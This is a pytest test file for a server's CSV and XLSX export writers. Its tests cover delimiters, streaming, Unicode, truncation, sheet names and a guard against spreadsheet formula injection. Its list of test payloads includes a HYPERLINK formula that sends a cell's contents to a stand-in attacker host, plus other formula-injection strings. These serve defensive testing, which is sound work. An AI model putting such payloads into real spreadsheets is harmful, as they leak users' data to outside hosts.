"""CSV and XLSX writers, read back the way a spreadsheet would: formulas stay text."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import tempfile
import zipfile
from collections.abc import AsyncIterator, Sequence
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from server.exports.writers import (
    XLSX_MAX_CHARS,
    Cell,
    SheetFull,
    XlsxSheet,
    csv_rows,
    csv_rows_async,
    safe_sheet_name,
    xlsx_bytes,
)

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    " =1+1",
]


def read_csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def read_xlsx(data: bytes) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_csv_starts_with_a_bom_and_separates_with_semicolons_and_crlf() -> None:
    data = b"".join(csv_rows(["name", "n"], [["Zoë", 2]]))
    assert data == "\ufeffname;n\r\nZoë;2\r\n".encode()


@pytest.mark.parametrize(("delimiter", "bom"), [(",", True), ("\t", False), (";", False)])
def test_csv_delimiter_and_bom_are_arguments(delimiter: str, bom: bool) -> None:
    data = b"".join(csv_rows(["a", "b"], [["x", "y"]], delimiter=delimiter, bom=bom))
    assert data.startswith(b"\xef\xbb\xbf") is bom
    assert data.decode("utf-8-sig") == f"a{delimiter}b\r\nx{delimiter}y\r\n"


@pytest.mark.parametrize("value", INJECTIONS)
def test_a_formula_cell_reads_back_from_csv_as_text_behind_an_apostrophe(value: str) -> None:
    rows = read_csv(b"".join(csv_rows(["name"], [[value]])))
    assert rows == [["name"], ["'" + value]]


def test_an_int_is_a_number_in_csv_and_not_guarded() -> None:
    rows = read_csv(b"".join(csv_rows(["n", "empty", "flag"], [[-1, None, True]])))
    assert rows[1] == ["-1", "", "true"]


def test_csv_quotes_delimiters_quotes_and_line_breaks_so_no_value_leaves_its_cell() -> None:
    tricky = ["a;b", 'say "hi"', "two\nlines", "cr\r\nlf", '";=1+1;"', "é" * 3]
    rows = read_csv(b"".join(csv_rows(["c"] * len(tricky), [tricky])))
    assert rows[1] == tricky


def test_the_header_is_guarded_too() -> None:
    assert read_csv(b"".join(csv_rows(["=evil"], [])))[0] == ["'=evil"]


def test_csv_is_produced_in_bounded_chunks_as_rows_come() -> None:
    consumed = 0

    def rows() -> object:
        nonlocal consumed
        for i in range(50_000):
            consumed = i
            yield [f"holder {i}", i]

    chunks = csv_rows(["holder", "i"], rows())  # type: ignore[arg-type]
    next(chunks)  # the header line
    first = next(chunks)
    assert 64 * 1024 <= len(first) < 128 * 1024
    assert consumed < 10_000
    assert sum(len(c) for c in chunks) > 0


def test_a_lone_surrogate_becomes_a_replacement_character_in_csv() -> None:
    rows = read_csv(b"".join(csv_rows(["x"], [["a\ud800b"]])))
    assert rows[1] == ["a\ufffdb"]


def test_async_csv_equals_sync_csv() -> None:
    data: list[list[Cell]] = [["=1", 1], ["Zoë", None], ["x" * 100_000, -5]]

    async def source() -> AsyncIterator[Sequence[Cell]]:
        for row in data:
            yield row

    async def collect() -> bytes:
        return b"".join([c async for c in csv_rows_async(["a", "b"], source())])

    assert asyncio.run(collect()) == b"".join(csv_rows(["a", "b"], data))


@pytest.mark.parametrize("value", INJECTIONS)
def test_a_formula_cell_reads_back_from_xlsx_as_text_behind_an_apostrophe(value: str) -> None:
    data = xlsx_bytes("Tickets", ["name"], [[value]])
    assert read_xlsx(data) == [["name"], ["'" + value]]
    assert "<f>" not in sheet_xml(data)


def test_the_sheet_xml_has_no_formula_element_whatever_the_cells() -> None:
    cells: list[Cell] = [*INJECTIONS, 3, -1, None, True, "=SUM(A1:A3)", "plain"]
    data = xlsx_bytes("=evil", ["=a", "+b"], [cells, cells])
    xml = sheet_xml(data)
    assert not re.search(r"<f[\s>/]", xml)
    assert "<c " in xml  # the cells are there, as inline strings and numbers
    assert read_xlsx(data)[0][:2] == ["'=a", "'+b"]


def test_xlsx_numbers_stay_numbers_and_huge_ints_become_text() -> None:
    data = xlsx_bytes("S", ["n", "big", "empty", "flag"], [[-1, 10**20, None, False]])
    assert read_xlsx(data)[1] == [-1.0, str(10**20), "", "false"]


def test_xlsx_keeps_unicode_and_control_characters() -> None:
    values = ["Zoë 日本語 🎟", "bell\x07 and esc\x1b", "_x0041_ stays literal"]
    assert read_xlsx(xlsx_bytes("S", ["a", "b", "c"], [values]))[1] == values


def test_a_value_longer_than_an_xlsx_cell_is_cut_with_an_ellipsis() -> None:
    data = xlsx_bytes("S", ["long", "astral"], [["=" + "x" * 10_000_000, "🎟" * 20_000]])
    long, astral = read_xlsx(data)[1]
    assert isinstance(long, str) and isinstance(astral, str)
    assert long.startswith("'=xxx") and long.endswith("…")
    assert len(long.encode("utf-16-le")) == 2 * XLSX_MAX_CHARS
    assert astral.endswith("…") and len(astral.encode("utf-16-le")) <= 2 * XLSX_MAX_CHARS
    assert set(astral[:-1]) == {"🎟"}  # cut between characters, never inside a surrogate pair


def test_a_lone_surrogate_becomes_a_replacement_character_in_xlsx() -> None:
    assert read_xlsx(xlsx_bytes("S", ["x"], [["a\udfffb"]]))[1] == ["a\ufffdb"]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Tickets", "Tickets"),
        ("a/b\\c?d*e[f]g:h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("", "Sheet1"),
        ("\x00\x01", "Sheet1"),
        ("History", "History_"),
    ],
)
def test_a_sheet_name_is_made_acceptable_to_excel(name: str, expected: str) -> None:
    assert safe_sheet_name(name) == expected
    xlsx_bytes(name, ["a"], [])  # XlsxWriter accepts it


def test_a_sheet_refuses_rows_past_excels_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("server.exports.writers.XLSX_MAX_ROWS", 3)
    with XlsxSheet("S", ["a"]) as sheet:
        sheet.add(["1"])
        sheet.add(["2"])
        with pytest.raises(SheetFull):
            sheet.add(["3"])


def test_an_abandoned_sheet_leaves_no_temporary_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A temporary directory of this test's own: other workers' exports write to the shared one.
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(RuntimeError), XlsxSheet("S", ["a"]) as sheet:
        sheet.add(["guest@example.org"])
        assert [n for n in os.listdir(tmp_path) if n.startswith("tessera-xlsx-")]
        raise RuntimeError("the client went away")
    data = xlsx_bytes("S", ["a"], [["x"]])
    assert data.startswith(b"PK")
    assert os.listdir(tmp_path) == []
